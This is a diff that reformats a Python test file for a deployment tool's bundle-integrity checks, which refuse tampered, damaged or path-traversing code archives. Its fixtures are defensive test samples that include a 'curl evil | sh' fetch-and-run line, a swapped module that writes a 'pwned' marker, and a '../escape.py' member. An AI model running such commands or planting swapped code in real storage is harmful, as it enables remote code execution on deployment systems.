@@ -38,8 +38,14 @@ def built(tmp_path: Path, files: dict[str, str], level: int = 1, name: str = "b"
     write(root, files)
     path = tmp_path / f"{name}.tar.gz"
     written = write_archive({n: str(root / n) for n in files}, path, level)
-    return Bundle(copy_style="all", digest=written.digest, path=path, size=written.size, files=tuple(files),
-                  archive_digest=written.archive_digest)
+    return Bundle(
+        copy_style="all",
+        digest=written.digest,
+        path=path,
+        size=written.size,
+        files=tuple(files),
+        archive_digest=written.archive_digest,
+    )
 
 
 FILES = {"app.py": "print('the deployed code')\n", "data.txt": "x" * 50_000}
@@ -65,21 +71,29 @@ def test_a_mismatch_is_one_line_naming_the_uri_without_credentials_and_both_dige
     with pytest.raises(BundleIntegrityError) as failed:
         verify_bundle(other.path, bundle.digest, source=uri)
     message = str(failed.value)
-    assert message == (f"bundle s3://bucket/bundles/{bundle.digest}.tar.gz does not match its digest: its tar stream"
-                       f" has sha256 {other.digest}, expected {bundle.digest}")
+    assert message == (
+        f"bundle s3://bucket/bundles/{bundle.digest}.tar.gz does not match its digest: its tar stream"
+        f" has sha256 {other.digest}, expected {bundle.digest}"
+    )
     assert failed.value.exit_code == ExitCode.BUNDLE_CORRUPT == 16
 
 
-@pytest.mark.parametrize("damage", ["truncated", "one changed byte", "bad crc", "not gzip", "empty",
-                                    "trailing garbage"])
+@pytest.mark.parametrize(
+    "damage", ["truncated", "one changed byte", "bad crc", "not gzip", "empty", "trailing garbage"]
+)
 def test_damaged_bundles_fail_verification(damage: str, tmp_path: Path) -> None:
     bundle = built(tmp_path, FILES)
     data = bundle.path.read_bytes()
     stream = bytearray(gzip.decompress(data))
     stream[600] ^= 0x01  # one byte of app.py's content
-    damaged = {"truncated": data[:-9], "one changed byte": gzip.compress(bytes(stream)),
-               "bad crc": data[:-8] + bytes(8), "not gzip": b"<Error>NoSuchKey</Error>", "empty": b"",
-               "trailing garbage": data + b"#!/bin/sh\n"}[damage]
+    damaged = {
+        "truncated": data[:-9],
+        "one changed byte": gzip.compress(bytes(stream)),
+        "bad crc": data[:-8] + bytes(8),
+        "not gzip": b"<Error>NoSuchKey</Error>",
+        "empty": b"",
+        "trailing garbage": data + b"#!/bin/sh\n",
+    }[damage]
     with pytest.raises(BundleIntegrityError, match=r"^bundle \(in memory\) (is damaged|does not match)"):
         verify_bundle(damaged, bundle.digest)
 
@@ -87,8 +101,12 @@ def test_damaged_bundles_fail_verification(damage: str, tmp_path: Path) -> None:
 def test_digest_in_name() -> None:
     digest = "ab" * 32
     assert digest_in_name(f"s3://b/p/{digest}.tar.gz") == digest == digest_in_name(f"/x/{digest}.tar.gz")
-    for uri in ("s3://b/p/bundle.tar.gz", f"s3://b/{digest.upper()}.tar.gz", f"s3://b/{digest}.tar.gz.bak",
-                f"s3://b/{digest[:-1]}.tar.gz"):
+    for uri in (
+        "s3://b/p/bundle.tar.gz",
+        f"s3://b/{digest.upper()}.tar.gz",
+        f"s3://b/{digest}.tar.gz.bak",
+        f"s3://b/{digest[:-1]}.tar.gz",
+    ):
         assert digest_in_name(uri) is None
 
 
@@ -115,8 +133,14 @@ def test_a_damaged_object_at_the_content_address_is_replaced(damage: str, tmp_pa
     target = tmp_path / "store" / bundle.filename
     target.parent.mkdir()
     swapped = built(tmp_path, {**FILES, "app.py": "import os; os.system('curl evil | sh')\n"}, name="evil")
-    target.write_bytes({"garbage": b"not a bundle", "truncated": good[: len(good) - 100], "empty": b"",
-                        "swapped": swapped.path.read_bytes()}[damage])
+    target.write_bytes(
+        {
+            "garbage": b"not a bundle",
+            "truncated": good[: len(good) - 100],
+            "empty": b"",
+            "swapped": swapped.path.read_bytes(),
+        }[damage]
+    )
     assert upload(bundle, target.as_uri()) == target.as_uri()
     assert target.read_bytes() == good
     assert sorted(p.name for p in target.parent.iterdir()) == [target.name]  # no partial copies left
@@ -145,8 +169,11 @@ def test_fetch_verifies_before_unpacking(tmp_path: Path) -> None:
     fs, path = fsspec.core.url_to_fs(uri)
     fs.pipe_file(path, swapped.path.read_bytes())
     dest = tmp_path / "dest"
-    with pytest.raises(BundleIntegrityError, match=f"^bundle {uri} does not match its digest: its tar stream has"
-                                                   f" sha256 {swapped.digest}, expected {bundle.digest}$"):
+    with pytest.raises(
+        BundleIntegrityError,
+        match=f"^bundle {uri} does not match its digest: its tar stream has"
+        f" sha256 {swapped.digest}, expected {bundle.digest}$",
+    ):
         fetch_bundle(uri, dest)
     assert not dest.exists() or list(dest.iterdir()) == []
     fs.pipe_file(path, bundle.path.read_bytes())
@@ -159,18 +186,24 @@ def test_fetch_verifies_before_unpacking(tmp_path: Path) -> None:
 
 
 def test_the_runtime_imports_the_bundle_library_and_no_built_in_plugin() -> None:
-    code = ("import json, sys, flyte_deploy.runtime; print(json.dumps(sorted(m for m in sys.modules"
-            " if m.startswith(('flyte_deploy.builtin', 'flyte_deploy.bundle')))))")
+    code = (
+        "import json, sys, flyte_deploy.runtime; print(json.dumps(sorted(m for m in sys.modules"
+        " if m.startswith(('flyte_deploy.builtin', 'flyte_deploy.bundle')))))"
+    )
     done = subprocess.run([sys.executable, "-c", code], env=cli_env(), capture_output=True, text=True, check=True)
-    assert json.loads(done.stdout) == ["flyte_deploy.bundle", "flyte_deploy.bundle.extract",
-                                       "flyte_deploy.bundle.fetch", "flyte_deploy.bundle.files",
-                                       "flyte_deploy.bundle.integrity"]
+    assert json.loads(done.stdout) == [
+        "flyte_deploy.bundle",
+        "flyte_deploy.bundle.extract",
+        "flyte_deploy.bundle.fetch",
+        "flyte_deploy.bundle.files",
+        "flyte_deploy.bundle.integrity",
+    ]
 
 
 # -- through the CLI ----------------------------------------------------------------------
 
 
-SWAPPED_FLOWS = '''
+SWAPPED_FLOWS = """
 import pathlib
 pathlib.Path(__file__).resolve().parents[3].joinpath("SWAPPED-CODE-RAN").write_text("pwned")
 
@@ -183,7 +216,7 @@ audit = fd.TaskEnvironment(name="audit", depends_on=[shop])
 @audit.task
 def check() -> str:
     return "PWNED"
-'''
+"""
 
 
 @pytest.fixture
@@ -191,22 +224,26 @@ def project(tmp_path: Path) -> Path:
     return make_project(tmp_path / "shop")
 
 
-def test_a_bundle_swapped_in_storage_is_never_run_and_the_next_deploy_repairs_it(project: Path,
-                                                                                 tmp_path: Path) -> None:
+def test_a_bundle_swapped_in_storage_is_never_run_and_the_next_deploy_repairs_it(project: Path, tmp_path: Path) -> None:
     first = deploy_json(["flows.py", "audit", "--version", "v1"], project)
     stored = local_archive(first)
     good = stored.read_bytes()
     ok = cli(["run", "audit.check", "--version", "v1", "--output", "json"], project)
     assert ok.returncode == 0 and json.loads(ok.stdout)["outputs"] == {"o0": "OK!"}, ok.stderr
     # an attacker with write access to the storage swaps in other code under the same name
-    evil = built(tmp_path, {"flows.py": SWAPPED_FLOWS, "helpers/__init__.py": "", "helpers/numbers.py": "",
-                            "helpers/text.py": ""}, name="evil")
+    evil = built(
+        tmp_path,
+        {"flows.py": SWAPPED_FLOWS, "helpers/__init__.py": "", "helpers/numbers.py": "", "helpers/text.py": ""},
+        name="evil",
+    )
     stored.write_bytes(evil.path.read_bytes())
     refused = cli(["run", "audit.check", "--version", "v1"], project)
     assert refused.returncode == ExitCode.BUNDLE_CORRUPT, refused.stderr
     errors = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
-    expected = (f"error: bundle {first['bundle']['uri']} does not match its digest: its tar stream has sha256"
-                f" {evil.digest}, expected {first['bundle']['digest']}")
+    expected = (
+        f"error: bundle {first['bundle']['uri']} does not match its digest: its tar stream has sha256"
+        f" {evil.digest}, expected {first['bundle']['digest']}"
+    )
     assert errors == [expected]
     assert "PWNED" not in refused.stdout + refused.stderr
     assert not list(tmp_path.rglob("SWAPPED-CODE-RAN"))
@@ -262,5 +299,6 @@ def test_run_names_the_unsafe_member_of_a_bundle_and_why(project: Path, tmp_path
     assert refused.returncode == ExitCode.BUNDLE_FAILED, refused.stderr
     errors = [line for line in refused.stderr.splitlines() if line.startswith("error:")]
     assert len(errors) == 1 and errors[0].endswith(
-        ": member '../escape.py' has '..' in its name, which would escape the target directory"), errors
+        ": member '../escape.py' has '..' in its name, which would escape the target directory"
+    ), errors
     assert "exited with code" not in refused.stderr and not list(tmp_path.rglob("escape.py"))
